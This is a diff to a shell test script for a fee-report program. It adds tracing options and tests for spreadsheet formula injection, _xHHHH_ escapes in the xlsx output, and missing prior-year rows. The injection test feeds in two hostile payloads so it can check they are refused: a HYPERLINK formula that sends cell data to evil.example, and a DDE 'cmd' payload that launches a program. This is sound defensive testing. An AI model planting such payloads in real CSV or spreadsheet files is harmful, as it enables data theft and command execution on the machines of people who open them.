@@ -30,7 +30,9 @@ PY
   cp in/2025/calls.csv calls.full
   rm -f st.txt
   set +e
-  strace -f -o st.txt -e trace=openat,read -e inject=read:delay_exit=20000 \
+  # (LeakSanitizer cannot run under ptrace: an ASan build checks no leaks here)
+  ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
+    strace -f -o st.txt -e trace=openat,read -e inject=read:delay_exit=20000 \
     "$REAL_PROG" run --year 2025 --input in --output out >out.txt 2>err.txt &
   pid=$!
   set -e
@@ -78,7 +80,8 @@ shell cp cust.new in/2025/customers.tmp && mv in/2025/customers.tmp in/2025/cust
 delete
 continue
 EOG
-  gdb -q -batch -x g.cmd "$REAL_PROG" >gdb.txt 2>&1 || true
+  ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
+    gdb -q -batch -x g.cmd "$REAL_PROG" >gdb.txt 2>&1 || true
   if ! cmp -s cust.new in/2025/customers.csv || [ ! -f out/2025/report.txt ]; then
     fail "R2: the swap or the run did not happen"; tail -5 gdb.txt | sed 's/^/#   /'
   elif grep -q EDITED out/2025/fees.csv; then
@@ -95,9 +98,85 @@ fi
 # each of the two files is opened once by a run
 if have_strace; then
   fresh
-  strace -f -o st.txt -e trace=openat "$REAL_PROG" run --year 2025 --input in --output out >/dev/null 2>&1
+  ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0 \
+    strace -f -o st.txt -e trace=openat "$REAL_PROG" run --year 2025 --input in --output out >/dev/null 2>&1
   check "R2: tariff.xml opened once" [ "$(grep -c 'in/2025/tariff.xml"' st.txt)" = 1 ]
   check "R2: customers.csv opened once" [ "$(grep -c 'in/2025/customers.csv"' st.txt)" = 1 ]
 fi
+
+# --- T7: a name that a spreadsheet takes for a formula ---------------------
+# fees.csv and ledger.csv carry names as they are: such a name is refused
+# where it enters, by check as by run, and nothing is written.
+for sign in '=' '+' '-' '@'; do
+  fresh
+  case $sign in
+    '=') new='"=HYPERLINK(""http://evil.example/?""&A1,""Valnämnden"")"' ;;
+    '+') new="+cmd|' /C calc'!A0" ;;
+    '-') new='-2+3' ;;
+    '@') new='@SUM(1+1)' ;;
+  esac
+  NEW=$new $PY - <<'PY'
+import os
+p = 'in/2025/customers.csv'; d = open(p, encoding='utf-8').read()
+open(p, 'w', encoding='utf-8').write(d.replace('Valnämnden', os.environ['NEW'], 1))
+PY
+  line=$(grep -n -m1 -F -- "$new" in/2025/customers.csv | cut -d: -f1)
+  for cmd in check run; do
+    run_in $cmd
+    if [ "$rc" != 65 ]; then
+      fail "T7 '$sign' ($cmd): exit $rc, expected 65"; head -3 err.txt | sed 's/^/#   /'
+    elif ! grep -q "^in/2025/customers.csv:$line: expected a name that does not start with '$sign' (a spreadsheet" err.txt; then
+      fail "T7 '$sign' ($cmd): message"; head -3 err.txt | sed 's/^/#   /'
+    elif [ -e out ]; then
+      fail "T7 '$sign' ($cmd): something was written"
+    else
+      ok "T7 a name starting with '$sign' ($cmd): 65, nothing written"
+    fi
+  done
+done
+# inside a name the signs are fine
+fresh
+sed -i 's/Valnämnden/Valnämnden =SUM(1) +46 -x @hem/' in/2025/customers.csv
+run_in run
+check "T7: signs inside a name are accepted" [ "$rc" = 0 ]
+check "T7: and reach fees.csv as they are" grep -q ';Valnämnden =SUM(1) +46 -x @hem;' out/2025/fees.csv
+
+# --- T8: _xHHHH_ in a name is shown as written in the workbook -------------
+fresh
+sed -i 's/Valnämnden/Valn_x00E4_mnden_x000D_X/' in/2025/customers.csv
+run_in run
+check "T8: a name with _xHHHH_ is accepted" [ "$rc" = 0 ]
+check "T8: every cell of the workbook that names the customer shows the text as written" \
+  $PY - out/2025/prislista-2025.xlsx <<'PY'
+import re, sys, zipfile
+z = zipfile.ZipFile(sys.argv[1])
+# a reader's view of the text nodes: OOXML decodes _xHHHH_ (ECMA-376 ST_Xstring)
+def shown(t):
+    return re.sub(r'_x([0-9A-Fa-f]{4})_', lambda m: chr(int(m.group(1), 16)), t)
+texts = []
+for n in z.namelist():
+    if n.startswith('xl/') and n.endswith('.xml'):
+        texts += re.findall(r'<t(?: [^>]*)?>([^<]*)</t>', z.read(n).decode('utf-8'))
+cells = [shown(t) for t in texts if 'Valn' in shown(t) or 'Valn' in t]
+assert cells, 'the customer is not in the workbook'
+assert all('Valn_x00E4_mnden_x000D_X' in c for c in cells), cells
+assert not any('\r' in c or 'Valnämnden' in c for c in cells), cells
+PY
+
+# --- L4: last year's fees.csv without a service's rows ---------------------
+fresh
+"$PROG" run --year 2025 --input in --output prev >/dev/null 2>&1
+mkdir -p out/2024
+sed 's/^2025;/2024;/' prev/2025/fees.csv | grep -v '^2024;direkt;' >out/2024/fees.csv
+run_in run
+check "L4: a run with a service missing from last year's fees.csv succeeds" [ "$rc" = 0 ]
+check "L4: and warns naming the service, the file and the previous-fee" \
+  grep -q "warning: direkt: 2024/fees.csv has no rows for it, the tariff's previous-fee is 2 980 000 kr; its 2024 columns show '–'" err.txt
+check "L4: report.txt has the warning too" grep -q "direkt: 2024/fees.csv has no rows for it" out/2025/report.txt
+head -n 1 prev/2025/fees.csv >out/2024/fees.csv
+rm -rf out/2025 out/issued
+run_in run
+check "L4: a header-only fees.csv of last year warns for every service that had a fee" \
+  bash -c "grep -c 'fees.csv has no rows for it' err.txt | grep -qx 3"
 
 finish
